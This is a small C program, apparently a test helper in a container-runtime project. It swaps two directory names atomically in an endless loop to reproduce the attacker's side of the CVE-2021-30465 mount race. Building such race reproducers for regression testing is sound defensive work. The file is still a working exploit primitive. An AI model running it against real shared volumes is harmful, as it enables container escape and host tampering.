/* Swaps two names of a directory for ever, each time in one step: the attacker of a shared volume
 * who turns a directory into a link between two system calls of a runtime (CVE-2021-30465).
 *
 *     race DIRECTORY A B
 *
 * Ends on SIGTERM with the number of swaps. */
#include "base/macro.h"

#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>

static volatile sig_atomic_t is_told_to_end;

static void on_term(int signal_number)
{
        (void) signal_number;
        is_told_to_end = 1;
}

int main(int argc, char **argv)
{
        unsigned long n = 0;
        int fd;

        if (argc != 4) {
                fprintf(stderr, "usage: race DIRECTORY A B\n");
                return 2;
        }
        (void) signal(SIGTERM, on_term);
        fd = open(argv[1], O_PATH | O_DIRECTORY | O_CLOEXEC);
        if (fd < 0) {
                perror(argv[1]);
                return 1;
        }
        while (!is_told_to_end)
                if (renameat2(fd, argv[2], fd, argv[3], RENAME_EXCHANGE) == 0)
                        n++;
        printf("%lu swaps\n", n);
        return n > 0 ? 0 : 1;
}
